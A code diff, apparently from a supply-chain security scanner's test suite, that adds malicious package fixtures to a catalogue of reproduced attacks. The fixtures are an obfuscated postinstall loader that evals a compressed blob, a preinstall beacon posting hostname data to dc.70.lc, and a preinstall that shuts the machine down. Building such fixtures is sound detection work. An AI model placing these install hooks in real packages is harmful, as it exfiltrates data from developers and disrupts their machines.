@@ -653,6 +653,58 @@ https.get("https://cfg.example.invalid/readme.md", (response) => {
         .build()
 }
 
+/// A payload kept as a compressed base64 blob, unpacked by a helper whose names
+/// are spelled in Unicode escapes, then evaluated. (The blob is inert text.)
+pub fn escaped_blob_loader() -> Package {
+    PackageBuilder::new("drive-sync", "6.0.4")
+        .script("postinstall", "node index.js")
+        .file(
+            "index.js",
+            r#"var zlib = require("zlib"),
+    bs = "\u0062\u0061\u0073\u0065\u0036\u0034",
+    \u0075\u0053 = (s) => zlib.brotliDecompressSync(Buffer.from(s, bs)).toString();
+let s1 = uS(`G/sCIJwHtg1sfVPqObPQC6WsmlPZnVOfAqCQlUG+AJay52WlQRR23HYKiwLI7ncvQM75zP689ZqjKlrgZVYcYBp1gM8R5zV4glyFKt+M`);
+\u0065\u0076\u0061\u006C(s1);
+"#,
+        )
+        .build()
+}
+
+/// Sloppy dependency-confusion beacon: undeclared variables hold the data and
+/// the request, and the host's top-level domain is a rare one.
+pub fn sloppy_global_beacon() -> Package {
+    sloppy_global_beacon_run_by("node ./pbk.js corp")
+}
+
+/// [`sloppy_global_beacon`] with another preinstall command (one naming a file the
+/// tarball lacks, as when a dot-file was packed away).
+pub fn sloppy_global_beacon_run_by(command: &str) -> Package {
+    PackageBuilder::new("@corp-maps/maps.react", "0.99.999")
+        .script("preinstall", command)
+        .file("index.js", "")
+        .file(
+            "pbk.js",
+            r"const os = require('os');
+const https = require('https');
+const host = os.hostname();
+data = { host, org: process.argv[2] };
+body = JSON.stringify(data);
+r = https.request({ hostname: 'dc.70.lc', port: 443, path: '/d', method: 'POST' });
+r.write(body);
+r.end();
+",
+        )
+        .build()
+}
+
+/// A preinstall that turns the machine off.
+pub fn shutdown_prank() -> Package {
+    PackageBuilder::new("deasyncp", "9001.999.999")
+        .script("preinstall", "say hello; shutdown -s now")
+        .file("index.js", "module.exports = () => {};\n")
+        .build()
+}
+
 /// Every attack fixture with the name of the incident it reproduces.
 pub fn all_attacks() -> Vec<(&'static str, Package)> {
     vec![
@@ -677,6 +729,9 @@ pub fn all_attacks() -> Vec<(&'static str, Package)> {
         ("node -e dropper", inline_install_dropper()),
         ("issue comment beacon", issue_comment_beacon()),
         ("deserialising loader", deserialising_loader()),
+        ("escaped blob loader", escaped_blob_loader()),
+        ("sloppy global beacon", sloppy_global_beacon()),
+        ("shutdown prank", shutdown_prank()),
     ]
 }
 
